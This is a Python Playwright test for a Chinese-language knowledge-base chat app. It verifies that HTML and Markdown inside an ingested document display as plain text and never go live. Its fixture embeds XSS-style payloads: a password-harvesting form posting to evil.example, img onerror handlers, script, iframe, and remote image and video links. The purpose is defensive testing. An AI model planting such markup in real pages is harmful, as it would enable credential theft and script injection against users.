"""A document full of HTML and Markdown is never live anywhere in the app (issue 16, item 1): headless Chromium
against `kechuang serve`, a question whose answer quotes the hostile lines, its source opened, the documents
table listed; no form, password field, foreign image or video, no script run, no style applied, and not one
request to another host."""

from __future__ import annotations

from urllib.parse import urlparse

import pytest

from tests._browser import CHROMIUM
from tests._server import serving
from tests.conftest import make_settings

HOSTILE = """某区科技创新券管理办法（测试）
第一条 创新券每家企业每年最高20万元<form action="http://evil.example/steal"><input type="password" name="p"><button>领取</button></form>。
第二条 申请材料见附件![logo](http://evil.example/md.png)和<img src="http://evil.example/img.png" onerror="alert(1)">说明。
第三条 创新券有效期一年<video poster="http://evil.example/poster.png" src="http://evil.example/v.mp4"></video><script>alert(2)</script>。
第四条 创新券可用于购买检测服务<span style="color:red;font-size:60px">红字</span>，**加粗**，[官方入口](http://evil.example/go)，<iframe src="http://evil.example/f"></iframe>。
"""


@pytest.fixture(scope="module")
def url(tmp_path_factory, embed_cache):
    from assistant.knowledge_base import KnowledgeBase

    root = tmp_path_factory.mktemp("hostile")
    (root / "docs").mkdir()
    (root / "docs" / "创新券<b>办法.txt").write_text(HOSTILE, encoding="utf-8")
    settings = make_settings(root / "data", embed_cache)
    kb = KnowledgeBase(settings)
    assert not kb.ingest([root / "docs"]).failed
    kb.close()
    with serving(settings) as base:
        yield base


def test_hostile_markup_in_a_document_is_never_live(url, tmp_path):
    from playwright.sync_api import sync_playwright

    foreign: list[str] = []
    dialogs: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        page = browser.new_page(viewport={"width": 1400, "height": 1400})
        page.set_default_timeout(60000)
        page.on("request", lambda r: foreign.append(r.url) if urlparse(r.url).hostname not in ("127.0.0.1", "localhost")
                and not r.url.startswith(("data:", "blob:")) else None)
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto(url + "/")
        page.wait_for_selector("#kc-input textarea")
        csp = page.evaluate("() => fetch('/').then(r => r.headers.get('content-security-policy'))")
        assert "img-src 'self'" in csp and "form-action 'self'" in csp
        for i, question in enumerate(("创新券每家企业每年最高多少", "创新券申请材料见什么", "创新券有效期多久",
                                      "创新券可用于购买什么服务")):
            page.fill("#kc-input textarea", question)
            page.click("#kc-send")
            page.wait_for_function("(n) => document.querySelectorAll('#kc-chat .message').length >= n "
                                   "&& !document.querySelector('#kc-chat .pending')", arg=2 * (i + 1))
            page.wait_for_timeout(800)
            assert "出处" in page.locator("#kc-chat .message").last.inner_text(), page.locator("#kc-chat").inner_text()
        chat = page.locator("#kc-chat")
        text = chat.inner_text()
        # shown as written, as text (the answer's own 出处 heading is the only emphasis)
        assert "<form" in text and "<img" in text and "![logo]" in text and "**加粗**" in text
        for selector in ("form", "input[type=password]", "video", "iframe", "script", "span[style]",
                         "img[src^='http://evil']", "a[href^='http://evil']"):
            assert chat.locator(f".message {selector}").count() == 0, selector
        # the cited passage and the documents table show the text, not markup
        page.locator("#kc-cites label").first.click()
        page.wait_for_selector("#kc-source .kc-passage")
        source = page.locator("#kc-source")
        assert "<iframe" in source.inner_text() and "<span" in source.inner_text()
        assert source.locator("form, input, img, video, iframe, script").count() == 0
        page.get_by_role("tab", name="知识库").click()
        page.wait_for_function("document.querySelector('#kc-k-table').innerText.includes('创新券<b>办法.txt')")
        assert page.locator("#kc-k-table b").count() == 0  # the file name's <b> is text
        page.screenshot(path=str(tmp_path / "hostile.png"), full_page=True)
        browser.close()
    assert not dialogs, dialogs
    assert not foreign, foreign
